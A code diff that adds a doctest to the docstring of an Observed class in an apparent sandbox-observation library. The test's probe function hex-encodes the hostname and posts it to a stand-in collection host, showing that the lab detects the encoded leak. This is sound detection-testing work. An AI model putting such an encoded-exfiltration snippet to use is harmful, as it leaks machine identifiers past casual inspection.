@@ -37,6 +37,16 @@ __all__ = ["Observed"]
 class Observed:
     """What a subject sends in one environment.  :func:`lab.observe` returns it.
 
+    >>> import socket, urllib.request
+    >>> def probe():
+    ...     name = socket.gethostname().encode().hex()
+    ...     urllib.request.urlopen("https://collect.example/start", data=name.encode())
+    >>> seen = lab.observe(lab.control(hostname="juniper"), probe)
+    >>> seen.requests[0].target, seen.requests[0].body
+    ('/start', b'6a756e69706572')
+    >>> "juniper" in seen.text, seen.sends("juniper")
+    (False, True)
+
     Asking raises MachineError where no cell can be made, and ClientError where the client
     cannot start.  How it ended, and whether it did well, is ``observation.exit``.
     """
